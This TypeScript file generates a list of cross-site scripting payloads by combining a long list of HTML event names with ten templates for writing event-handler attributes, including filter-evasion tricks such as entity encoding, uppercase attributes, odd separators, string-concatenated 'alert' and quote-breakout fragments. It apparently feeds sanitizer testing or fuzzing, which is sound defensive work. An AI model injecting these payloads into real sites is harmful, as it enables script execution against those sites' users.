/** Events, spread over elements and over ways of writing an attribute. */
const events = "abort afterprint animationend animationiteration animationstart auxclick beforecopy beforeinput beforematch beforeprint beforetoggle beforeunload begin blur cancel canplay change click contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragstart drop durationchange end error filterchange focus focusin forminput formchange fullscreenchange gotpointercapture hashchange input invalid keydown load loadedmetadata message mousedown mouseenter mouseout mouseover mousewheel pagereveal pageshow paste play pointerover popstate propertychange qt_error readystatechange repeat reset resize scroll scrollend search securitypolicyviolation select selectionchange show slotchange start storage submit timeupdate toggle touchstart transitionend transitionrun unload unhandledrejection volumechange wheel".split(" "); // prettier-ignore

/** How a handler may be written; browsers read all of these as one attribute. */
const writings: readonly ((event: string) => string)[] = [
  (event) => `<img src=x on${event}=alert(1)>`,
  (event) => `<body on${event}="alert(1)">`,
  (event) => `<input/autofocus/on${event}='alert(1)'>`,
  (event) => `<svg on${event}\n=\n"alert(1)"/>`,
  (event) => `<details open x="y"on${event}=&#97lert(1)>`,
  (event) => `<a tabindex=0 ON${event.toUpperCase()}=alert\`1\`>x</a>`,
  (event) => `<x on${event}="javascript:alert(1)" style="animation-name:x" tabindex=1 id=x>y</x>`,
  (event) => `<p/\u000con${event}=top["al"+"ert"](1)>x`,
  (event) => `" on${event}="alert(1)" x="`,
  (event) => `' on${event}='alert(1)' x='`,
];

export const handlers: readonly string[] = events.map((event, at) => (writings[at % writings.length] ?? String)(event));
